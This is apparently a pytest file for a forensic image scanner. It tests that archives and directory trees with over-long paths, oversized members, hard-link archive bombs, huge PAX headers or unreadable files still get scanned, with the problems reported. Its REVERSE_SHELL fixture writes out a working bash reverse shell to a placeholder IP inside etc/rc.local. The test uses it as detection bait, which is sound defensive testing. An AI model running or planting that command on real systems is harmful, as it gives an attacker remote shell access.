"""Per-member limits and unreadable content: reported as problems of the scan, never fatal.

Issue 19, cases 8 and 11: one over-long path in a tar aborted the whole scan (exit 3, no
findings) although ``etc/rc.local`` held a reverse shell; unreadable files gave exit 0 and an
unreadable directory was called a "device file, FIFO or socket".
"""

from __future__ import annotations

import io
import json
import os
import shutil
import subprocess
import sys
import tarfile
import tempfile
import zipfile
from collections.abc import Iterator
from pathlib import Path

import pytest

from cranewatch.cli import main
from cranewatch.forensics import Limits, open_image, scan_image

REVERSE_SHELL = b"#!/bin/sh -e\nbash -i >& /dev/tcp/203.0.113.5/4444 0>&1 &\nexit 0\n"
LONG_PATH = "opt/" + "/".join(["d" * 200] * 21) + "/payload.sh"  # 4.2 KB, longer than PATH_MAX
LONG_NAME = "opt/" + "n" * 300  # one component longer than NAME_MAX (255)
DEEP_PATH = "opt/" + "a/" * 300 + "deep.sh"  # 1 KB, but 302 levels


def _tar(out: Path, members: list[tuple[str, bytes]]) -> Path:
    with tarfile.open(out, "w:gz", format=tarfile.PAX_FORMAT) as tar:
        for name, data in members:
            info = tarfile.TarInfo(name)
            info.size = len(data)
            info.mode = 0o755
            tar.addfile(info, io.BytesIO(data))
    return out


def _rc_local_found(findings: list[dict[str, object]]) -> bool:
    return any(
        f["category"] == "backdoor" and f["evidence"][0]["path"] == "etc/rc.local"  # type: ignore[index]
        for f in findings
    )


@pytest.mark.parametrize(("name", "why"), [
    (LONG_PATH, "path of 4235 bytes, longer than the 4096-byte limit"),
    (LONG_NAME, "cannot be stored (File name too long)"),
    (DEEP_PATH, "302 directory levels deep, more than the limit of 256"),
])
def test_one_unstorable_member_does_not_blind_the_scan(
    tmp_path: Path, name: str, why: str, capsys: pytest.CaptureFixture[str]
) -> None:
    archive = _tar(tmp_path / "cms.tar.gz", [
        ("etc/hostname", b"cms\n"), (name, b"#!/bin/sh\ntrue\n"), ("etc/rc.local", REVERSE_SHELL),
    ])
    out = tmp_path / "scan.jsonl"
    code = main(["scan-image", str(archive), "--format", "jsonl", "--out", str(out)])
    records = [json.loads(line) for line in out.read_text().splitlines()]
    header, findings = records[0], [r for r in records if r["type"] == "finding"]
    assert code == 3  # incomplete: what was read is reported, the exit code says not all of it
    assert _rc_local_found(findings)  # the member after the long one is scanned too
    assert header["complete"] is False and len(header["problems"]) == 1
    problem = header["problems"][0]
    assert why in problem and "not scanned" in problem
    assert len(problem) < 300  # the name is shortened in the message, not printed whole
    err = capsys.readouterr().err
    assert "scan incomplete, 1 problem(s)" in err and why in err


def test_member_over_the_per_file_size_limit_is_skipped_and_the_next_read(tmp_path: Path) -> None:
    archive = _tar(tmp_path / "cms.tar.gz", [
        ("opt/big.bin", b"\x00" * 300_000), ("etc/rc.local", REVERSE_SHELL),
    ])
    result = scan_image(archive, limits=Limits(max_member_bytes=100_000), workers=1)
    assert result.problems == ("opt/big.bin: 300000 bytes, more than the 100000-byte limit of one file: not scanned",)
    assert "opt/big.bin" not in {f.evidence[0].path for f in result.findings}
    assert any(f.evidence[0].path == "etc/rc.local" and f.category == "backdoor" for f in result.findings)


def test_hard_links_are_linked_not_copied_and_counted_as_content(tmp_path: Path) -> None:
    # A thousand names for one 1 MB file: 1 GB to scan from a 1 MB archive.
    archive = tmp_path / "links.tar.gz"
    with tarfile.open(archive, "w:gz") as tar:
        info = tarfile.TarInfo("opt/blob")
        info.size = 1 << 20
        tar.addfile(info, io.BytesIO(os.urandom(info.size)))
        for number in range(1000):
            link = tarfile.TarInfo(f"opt/link{number}")
            link.type = tarfile.LNKTYPE
            link.linkname = "opt/blob"
            tar.addfile(link)
    with open_image(archive, Limits(ratio_floor=8 << 20, max_ratio=20)) as image:
        assert "archive bomb" in image.problems[0]
        names = [e for e in image.entries if e.startswith("opt/link")]
        assert 5 <= len(names) < 25  # stopped at 20x the archive's size
        assert os.stat(image.root / names[0]).st_ino == os.stat(image.root / "opt/blob").st_ino


def test_a_member_rewritten_after_a_hard_link_keeps_the_link_intact(tmp_path: Path) -> None:
    archive = tmp_path / "twice.tar"
    with tarfile.open(archive, "w") as tar:
        for name, data in (("etc/a", b"first\n"), ("etc/a", b"second\n")):
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
            if data == b"first\n":
                link = tarfile.TarInfo("etc/b")
                link.type = tarfile.LNKTYPE
                link.linkname = "etc/a"
                tar.addfile(link)
    with open_image(archive) as image:
        assert (image.root / "etc/a").read_bytes() == b"second\n"
        assert (image.root / "etc/b").read_bytes() == b"first\n"  # tar -x gives the same


def test_huge_pax_header_is_refused_without_reading_it(tmp_path: Path) -> None:
    archive = tmp_path / "pax.tar"
    with tarfile.open(archive, "w", format=tarfile.PAX_FORMAT) as tar:
        info = tarfile.TarInfo("etc/rc.local")
        info.size = len(REVERSE_SHELL)
        tar.addfile(info, io.BytesIO(REVERSE_SHELL))
        big = tarfile.TarInfo("etc/x")
        big.pax_headers = {"comment": "c" * (2 << 20)}
        tar.addfile(big, io.BytesIO(b""))
    with open_image(archive) as image:
        assert "etc/rc.local" in image.entries
        assert "an extended header of" in image.problems[0]


def test_zip_member_count_limit_keeps_the_first_members(tmp_path: Path) -> None:
    archive = tmp_path / "many.zip"
    with zipfile.ZipFile(archive, "w") as z:
        z.writestr("etc/rc.local", REVERSE_SHELL)
        for number in range(50):
            z.writestr(f"var/spam/{number}", b"")
    result = scan_image(archive, limits=Limits(max_files=10), workers=1)
    assert len(result.problems) == 1 and "file-count limit" in result.problems[0]
    assert any(f.evidence[0].path == "etc/rc.local" for f in result.findings)


# --- unreadable files and directories (permission denied) ---------------------------------------


def _unreadable_tree() -> Iterator[Path]:
    # Outside pytest's private tmp directory, so that a process without privileges can walk it.
    tree = Path(tempfile.mkdtemp(prefix="cranewatch-perm-"))
    try:
        os.chmod(tree, 0o755)
        (tree / "etc/vendor").mkdir(parents=True)
        (tree / "etc/rc.local").write_bytes(REVERSE_SHELL)
        (tree / "etc/vendor/agent.sh").write_bytes(REVERSE_SHELL)
        (tree / "etc/shadowed").write_bytes(REVERSE_SHELL)
        for path in (tree, tree / "etc", tree / "etc/rc.local"):
            os.chmod(path, 0o755)
        os.chmod(tree / "etc/shadowed", 0)
        os.chmod(tree / "etc/vendor", 0)
        yield tree
    finally:
        os.chmod(tree / "etc/vendor", 0o755)
        shutil.rmtree(tree)


@pytest.fixture
def unreadable_tree() -> Iterator[Path]:
    yield from _unreadable_tree()


def _scan_without_privileges(tree: Path) -> tuple[int, list[dict[str, object]], str]:
    """Scan as an analyst without root's right to read everything (as root: without
    CAP_DAC_OVERRIDE and CAP_DAC_READ_SEARCH, via setpriv)."""
    argv = [sys.executable, "-m", "cranewatch", "scan-image", str(tree), "--format", "jsonl"]
    if os.geteuid() == 0:
        setpriv = shutil.which("setpriv")
        if setpriv is None:
            pytest.skip("needs setpriv (util-linux) to drop root's file-access capabilities")
        caps = "-dac_override,-dac_read_search"
        argv = [setpriv, f"--bounding-set={caps}", f"--inh-caps={caps}", *argv]
    env = {**os.environ, "PYTHONPATH": str(Path(__file__).parents[1] / "src"), "PYTHONDONTWRITEBYTECODE": "1"}
    run = subprocess.run(argv, capture_output=True, text=True, env=env, check=False, timeout=120)
    return run.returncode, [json.loads(line) for line in run.stdout.splitlines()], run.stderr


def test_unreadable_file_and_directory_are_problems_and_exit_3(unreadable_tree: Path) -> None:
    code, records, err = _scan_without_privileges(unreadable_tree)
    header = records[0]
    assert code == 3, err
    assert header["problems"] == [
        "etc/vendor/: directory cannot be listed (Permission denied): what it holds is not scanned",
        "etc/shadowed: cannot be read (Permission denied): not scanned",
    ]
    assert not any("device file" in w for w in header["warnings"])  # a directory is not a device
    assert _rc_local_found([r for r in records if r["type"] == "finding"])
    assert "scan incomplete, 2 problem(s)" in err
